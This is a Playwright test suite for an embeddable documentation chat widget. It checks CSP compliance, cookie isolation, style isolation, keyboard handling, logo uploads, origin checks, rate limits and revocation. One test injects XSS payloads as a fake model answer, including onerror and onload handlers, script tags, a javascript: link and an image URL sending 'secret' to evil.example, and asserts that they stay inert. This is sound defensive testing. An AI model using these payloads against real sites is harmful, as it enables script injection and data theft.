"""A chat on somebody else's site, in a real browser: a page of another origin, with a policy of its own."""

from __future__ import annotations

from base64 import b64encode
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import httpx
import pytest
from playwright.sync_api import Browser, BrowserContext, Page, expect

from roost.clock import SystemClock, SystemIds
from roost.services.widget_answers import PER_ADDRESS_A_MINUTE
from tests.e2e.pages import visit
from tests.e2e.world import QUESTION, World, world
from tests.fakes.docs_site import Reply
from tests.fakes.pictures import png

pytestmark = pytest.mark.timeout(120)

IDS = SystemIds(SystemClock())
ANSWER = "A perch holds **up to twelve birds** [1]."
HOSTILE_STYLE = (
    "* { display: none !important; color: red !important } html, body { display: block !important }"
    " roost-chat { position: static !important; opacity: 0 !important; visibility: hidden !important }"
)


class Site:
    """A site that shows the chat: `origin` is one of the widget's own."""

    def __init__(self, here: World) -> None:
        self.here = here
        # The name, not the address: the site is then the same one as Roost to a browser's cookies.
        self.origin = here.site.url.replace("127.0.0.1", "localhost")
        self.elsewhere = here.site.url
        self.widget = self.make("Docs")

    def make(self, name: str, **look: Any) -> dict[str, Any]:
        with self.here.roost.client() as client:
            new: dict[str, Any] = {"name": name, "origins": [self.origin]}
            if look:
                usual = client.post("/api/widgets", json=new).json()["look"]
                new["look"] = {**usual, **look}
            made = client.post("/api/widgets", json=new)
            assert made.status_code == 201, made.text
            widget: dict[str, Any] = made.json()
            return widget

    def put(self, path: str, widget: dict[str, Any], *, head: str = "", policy: str | None = None) -> None:
        """A page of the site with the widget's line in it."""
        top = f"<!doctype html><html lang='en'><head><title>Aviary</title>{head}</head>"
        body = f"{top}<body><main><h1>Aviary</h1></main>"
        self.here.site.pages[path] = Reply(
            f"{body}{widget['snippet']}</body></html>".encode(),
            headers={} if policy is None else {"Content-Security-Policy": policy},
        )

    def ask(self, widget: dict[str, Any], question: str) -> int:
        """As a script would that pretends to be a page of the site: the status."""
        body = {"id": IDS.new(), "conversation_id": IDS.new(), "question": question}
        address = f"{self.here.roost.base_url}/widget/v1/{widget['key']}/ask"
        return httpx.post(address, json=body, headers={"Origin": self.origin}, timeout=20).status_code


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
    with world(tmp_path_factory.mktemp("data"), written=True) as running:
        running.llm.say(ANSWER)
        running.roost.start()
        with running.roost.client() as client:
            running.read_site(client)
        yield Site(running)


@contextmanager
def visiting(browser: Browser, site: Site, **options: Any) -> Iterator[tuple[BrowserContext, Page]]:
    """A browser in which somebody is signed in to Roost; fails when a page shows an error or a dialog."""
    context = browser.new_context(**options)
    try:
        context.set_default_timeout(15_000)
        context.request.post(f"{site.here.roost.base_url}/auth/local", data={})
        page = context.new_page()
        wrong: list[str] = []
        page.on("pageerror", lambda error: wrong.append(str(error)))
        # Nothing dismisses it: a page that opened a dialog stands still, and its test fails.
        page.on("dialog", lambda dialog: wrong.append(dialog.message))
        yield context, page
        assert wrong == []
    finally:
        context.close()


def opened(page: Page) -> Any:
    page.get_by_role("button", name="Open the chat").click()
    panel = page.get_by_role("dialog", name="Ask the docs")
    expect(panel.get_by_role("textbox", name="Your question")).to_be_focused()
    return panel


def test_a_visitor_is_answered_under_a_strict_policy_without_a_cookie(site: Site, browser: Browser) -> None:
    roost = site.here.roost.base_url
    policy = (
        f"default-src 'none'; script-src {roost}; connect-src {roost}; style-src 'sha256-made+up=';"
        " base-uri 'none'; form-action 'none'; require-trusted-types-for 'script'; trusted-types 'none'"
    )
    for path in ("/guide", "/next"):
        site.put(path, site.widget, policy=policy)
    with visiting(browser, site) as (context, page):
        assert [cookie["name"] for cookie in context.cookies()] == ["roost_session"]
        asked: list[dict[str, str]] = []
        answered: list[dict[str, str]] = []
        violations: list[str] = []
        page.on("request", lambda each: asked.append(each.all_headers()) if roost in each.url else None)
        page.on("response", lambda each: answered.append(each.all_headers()) if roost in each.url else None)
        page.on("console", lambda line: violations.append(line.text) if line.type == "error" else None)
        page.goto(f"{site.origin}/guide")
        panel = opened(page)
        panel.get_by_role("textbox", name="Your question").fill(QUESTION)
        page.keyboard.press("Enter")
        expect(panel.locator(".answer")).to_contain_text("up to twelve birds")
        source = panel.get_by_role("link", name="Source 1")
        expect(source).to_have_attribute("href", f"{site.here.site.url}/perch#how")
        expect(panel.locator(".answer strong")).to_have_text("up to twelve birds")
        box = panel.bounding_box()
        assert box is not None
        assert box["width"] == 400
        panel.get_by_role("button", name="This did not help").click()
        pressed = panel.get_by_role("button", name="This did not help")
        assert pressed.evaluate("(made) => getComputedStyle(made).backgroundColor") == "rgb(243, 242, 239)"
        panel.get_by_role("textbox", name="What was wrong?").fill("Which birds?")
        send = panel.get_by_role("button", name="Send")
        # One line: its word is not broken into letters.
        assert send.evaluate("(made) => made.offsetHeight < 40 && made.offsetWidth > 40")
        send.click()
        expect(panel.get_by_text("Thank you.")).to_be_visible()

        # On the next page of the tab the conversation is there still; in no other place of the browser.
        page.goto(f"{site.origin}/next")
        panel = page.get_by_role("dialog", name="Ask the docs")
        expect(panel.locator(".question")).to_contain_text(QUESTION)
        assert page.evaluate("[document.cookie, localStorage.length, sessionStorage.length]") == ["", 0, 1]
        other = context.new_page()
        other.goto(f"{site.origin}/guide")
        expect(other.get_by_role("button", name="Open the chat")).to_be_visible()
        expect(other.get_by_role("dialog", name="Ask the docs")).to_have_count(0)

        assert len(asked) >= 4
        assert [
            headers for headers in asked if "cookie" in headers and "widget" in headers.get(":path", "")
        ] == []
        assert all("cookie" not in headers for headers in asked if headers.get("sec-fetch-mode") == "cors")
        assert all("set-cookie" not in headers for headers in answered)
        assert [cookie["name"] for cookie in context.cookies()] == ["roost_session"]
        assert [each for each in violations if "favicon" not in each and "404" not in each] == []
    with site.here.roost.client() as client:
        learned = client.get(f"/api/insights?widget_id={site.widget['id']}").json()
    assert [(each["question"], each["reason"]) for each in learned["judged"]] == [(QUESTION, "Which birds?")]
    assert learned["pages"][0]["title"] == "Perches"


def test_the_sites_own_styles_cannot_break_it(site: Site, browser: Browser) -> None:
    widget = site.make("Blue", accent="#1a3f8f", position="left", scheme="dark", title="Ask us")
    site.put("/styled", widget, head=f"<style>{HOSTILE_STYLE}</style>")
    with visiting(browser, site, viewport={"width": 390, "height": 700}) as (_, page):
        page.goto(f"{site.origin}/styled")
        launcher = page.get_by_role("button", name="Open the chat: Ask us")
        expect(launcher).to_be_visible()
        box = launcher.bounding_box()
        assert box is not None
        assert (box["x"], box["width"]) == (20, 56)
        assert launcher.evaluate("(button) => getComputedStyle(button).backgroundColor") == "rgb(26, 63, 143)"
        launcher.click()
        panel = page.get_by_role("dialog", name="Ask us")
        assert panel.evaluate("(panel) => getComputedStyle(panel).backgroundColor") == "rgb(29, 29, 26)"
        assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")


def test_it_is_used_by_keyboard_and_keeps_its_keys_to_itself(site: Site, browser: Browser) -> None:
    site.put("/keys", site.widget)
    with visiting(browser, site) as (_, page):
        page.goto(f"{site.origin}/keys")
        page.evaluate(
            "addEventListener('keydown', (event) => (window.heard = (window.heard ?? '') + event.key))"
        )
        expect(page.get_by_role("button", name="Open the chat")).to_be_visible()
        page.keyboard.press("Tab")
        page.keyboard.press("Enter")
        field = page.get_by_role("textbox", name="Your question")
        expect(field).to_be_focused()
        page.keyboard.type("s/?")
        assert page.evaluate("window.heard") == "Tab"
        page.keyboard.press("Escape")
        expect(page.get_by_role("button", name="Open the chat")).to_be_focused()
        page.keyboard.press("Enter")
        expect(field).to_have_value("s/?")
        field.fill(QUESTION)
        page.keyboard.press("Enter")
        expect(page.get_by_role("status")).to_contain_text("The answer: A perch holds up to twelve birds")


def test_markup_in_an_answer_stays_text(site: Site, browser: Browser) -> None:
    site.put("/hostile", site.widget)
    hostile = (
        "See [1]. <img src=x onerror=alert(1)> <script>alert(2)</script>\n\n"
        "[click](javascript:alert(3)) ![pixel](https://evil.example/?q=secret)\n\n"
        "<iframe src='https://evil.example'></iframe><svg/onload=alert(4)>\n\n```\n</code><script>alert(5)</script>\n```"
    )
    site.here.llm.say(hostile)
    try:
        with visiting(browser, site) as (_, page):
            foreign: list[str] = []
            page.on("request", lambda each: foreign.append(each.url) if "evil" in each.url else None)
            page.goto(f"{site.origin}/hostile")
            panel = opened(page)
            panel.get_by_role("textbox", name="Your question").fill(QUESTION)
            page.keyboard.press("Enter")
            expect(panel.get_by_role("button", name="This helped")).to_be_visible()
            answer = panel.locator(".answer")
            expect(answer).to_contain_text("<img src=x onerror=alert(1)>")
            assert answer.locator("img, script, iframe, svg:not([aria-hidden])").count() == 0
            assert answer.locator("a:not([href^='http'])").count() == 0
            assert foreign == []
    finally:
        site.here.llm.say(ANSWER)


def test_people_give_a_widget_a_logo_which_its_visitors_see(
    site: Site, browser: Browser, tmp_path: Path
) -> None:
    widget = site.make("Branded")
    roost = site.here.roost.base_url
    # No picture of Roost's address is allowed, by name or by default.
    policy = f"default-src 'none'; script-src {roost}; connect-src {roost}; img-src 'none'"
    site.put("/branded", widget, policy=policy)
    (tmp_path / "logo.png").write_bytes(png(300, 100, (200, 30, 30)))
    (tmp_path / "drawing.svg").write_text("<svg xmlns='http://www.w3.org/2000/svg'/>")
    (tmp_path / "broken.png").write_bytes(b"\x89PNG\r\n\x1a\n" + b"pixels")
    (tmp_path / "large.png").write_bytes(b"\x89PNG\r\n\x1a\n" + b"x" * 600 * 1024)
    with (
        visit(browser, roost, "/widgets") as page,
        visiting(browser, site) as (_, visitor),
    ):
        page.get_by_role("button", name="Change Branded").click()
        dialog = page.get_by_role("dialog")
        field = dialog.get_by_role("group", name="Logo")
        chooser = field.locator("input[type=file]")
        for name, sentence in (
            ("drawing.svg", "drawing.svg is not a PNG, JPEG, GIF or WebP picture. Choose one that is."),
            ("broken.png", "broken.png cannot be read as a picture."),
            ("large.png", "The picture has 601 KiB; 512 are taken. Make it smaller."),
        ):
            chooser.set_input_files(tmp_path / name)
            expect(field.get_by_role("alert")).to_contain_text(sentence)
            expect(field.get_by_role("img")).to_have_count(0)
        chooser.set_input_files(tmp_path / "logo.png")
        expect(field.get_by_role("img", name="The logo as it is now")).to_be_visible()
        expect(field.get_by_role("alert")).to_have_count(0)
        dialog.get_by_role("button", name="Save").click()
        expect(dialog).to_have_count(0)

        visitor.goto(f"{site.origin}/branded")
        visitor.get_by_role("button", name="Open the chat").click()
        panel = visitor.get_by_role("dialog", name="Ask the docs")
        logo = panel.locator("header canvas")
        expect(logo).to_be_visible()
        box = logo.bounding_box()
        assert box is not None
        assert (round(box["width"]), round(box["height"])) == (84, 28)
        middle = "(made) => [...made.getContext('2d').getImageData(9, 9, 1, 1).data]"
        assert logo.evaluate(middle) == [200, 30, 30, 255]

        page.get_by_role("button", name="Change Branded").click()
        stored = field.get_by_role("img", name="The logo as it is now")
        expect(stored).to_be_visible()
        assert stored.evaluate("(made) => made.decode().then(() => made.naturalWidth)") == 300
        field.get_by_role("button", name="Remove the logo").click()
        dialog.get_by_role("button", name="Save").click()
        expect(dialog).to_have_count(0)
        visitor.reload()
        expect(panel.get_by_role("heading", name="Ask the docs")).to_be_visible()
        expect(logo).to_have_count(0)


def test_a_logo_is_dragged_into_the_form_of_a_new_widget(site: Site, browser: Browser) -> None:
    with visit(browser, site.here.roost.base_url, "/widgets") as page:
        page.get_by_role("button", name="Make a widget").first.click()
        dialog = page.get_by_role("dialog")
        dialog.get_by_label("Name", exact=True).fill("Dragged")
        dialog.get_by_label("Sites").fill("https://shop.example.com")
        picture = b64encode(png(40, 40, (10, 90, 200))).decode()
        carried = page.evaluate_handle(
            "(text) => { const carried = new DataTransfer();"
            " const bytes = Uint8Array.from(atob(text), (each) => each.charCodeAt(0));"
            " carried.items.add(new File([bytes], 'logo.png', {type: 'image/png'})); return carried; }",
            picture,
        )
        field = dialog.get_by_role("group", name="Logo")
        field.dispatch_event("drop", {"dataTransfer": carried})
        expect(field.get_by_role("img", name="The logo as it is now")).to_be_visible()
        dialog.get_by_role("button", name="Make the widget").click()
        expect(dialog.get_by_text("Your widget is ready")).to_be_visible()
        dialog.get_by_role("button", name="Done").click()
        page.get_by_role("button", name="Change Dragged").click()
        expect(field.get_by_role("img", name="The logo as it is now")).to_be_visible()


def test_another_site_gets_nothing(site: Site, browser: Browser) -> None:
    site.put("/copied", site.widget)
    with visiting(browser, site) as (_, page):
        with page.expect_console_message(lambda line: "is not shown" in line.text):
            page.goto(f"{site.elsewhere}/copied")
        expect(page.locator("roost-chat")).to_have_count(0)
        refused = page.evaluate(
            "(address) => fetch(address).then(() => 'read', () => 'refused')",
            f"{site.here.roost.base_url}/widget/v1/{site.widget['key']}/look",
        )
        assert refused == "refused"


def test_a_visitor_who_asks_too_often_is_told(site: Site, browser: Browser) -> None:
    widget = site.make("Busy")
    site.put("/busy", widget)
    statuses = [site.ask(widget, QUESTION) for _ in range(PER_ADDRESS_A_MINUTE + 1)]
    assert statuses == [200] * PER_ADDRESS_A_MINUTE + [429]
    with visiting(browser, site) as (_, page):
        page.goto(f"{site.origin}/busy")
        panel = opened(page)
        panel.get_by_role("textbox", name="Your question").fill(QUESTION)
        page.keyboard.press("Enter")
        expect(panel.get_by_text("You ask faster than we can answer.")).to_be_visible()
        expect(panel.get_by_role("button", name="Try again")).to_be_visible()


def test_people_make_a_widget_learn_from_it_and_revoke_it(site: Site, browser: Browser) -> None:
    with visit(browser, site.here.roost.base_url, "/widgets") as page:
        page.get_by_role("button", name="Make a widget").first.click()
        dialog = page.get_by_role("dialog")
        dialog.get_by_label("Name", exact=True).fill("Tern counter")
        dialog.get_by_label("Sites").fill(site.origin + "/guide\nhttps://shop.example.com")
        dialog.get_by_label("Questions to begin with").fill(QUESTION)
        dialog.get_by_role("button", name="Make the widget").click()
        line = dialog.locator("code").first
        expect(line).to_contain_text("/widget.js")
        snippet = str(line.text_content())
        dialog.get_by_role("button", name="Done").click()
        site.put("/shop", {"snippet": snippet})
        with visiting(browser, site) as (_, visitor):
            visitor.goto(f"{site.origin}/shop")
            panel = opened(visitor)
            panel.get_by_role("button", name=QUESTION).click()
            expect(panel.locator(".answer")).to_contain_text("twelve")
            panel.get_by_role("button", name="New conversation").click()
            expect(panel.locator(".answer")).to_have_count(0)
            panel.get_by_role("textbox", name="Your question").fill(
                "What does insuring a drone cost in Norway?"
            )
            visitor.keyboard.press("Enter")
            expect(panel.locator(".answer")).to_contain_text("The docs don't say")

            row = page.get_by_role("listitem").filter(has_text="Tern counter")
            row.get_by_role("link", name="What was asked").click()
            open_questions = page.get_by_role("list", name="Not in the docs")
            expect(open_questions).to_contain_text("insuring a drone")
            expect(page.get_by_role("list", name="Most cited pages")).to_contain_text("Perches")
            with page.expect_download() as download:
                page.get_by_role("link", name="Download “Not in the docs” as CSV").click()
            assert download.value.path().read_bytes().startswith(b'\xef\xbb\xbf"question"')

            page.goto("/widgets")
            row.get_by_role("button", name="Revoke Tern counter").click()
            page.get_by_role("dialog").get_by_role("button", name="Revoke", exact=True).click()
            expect(row).to_have_count(0)
            panel.get_by_role("textbox", name="Your question").fill(QUESTION)
            visitor.keyboard.press("Enter")
            expect(panel.get_by_text("This chat is switched off.")).to_be_visible()
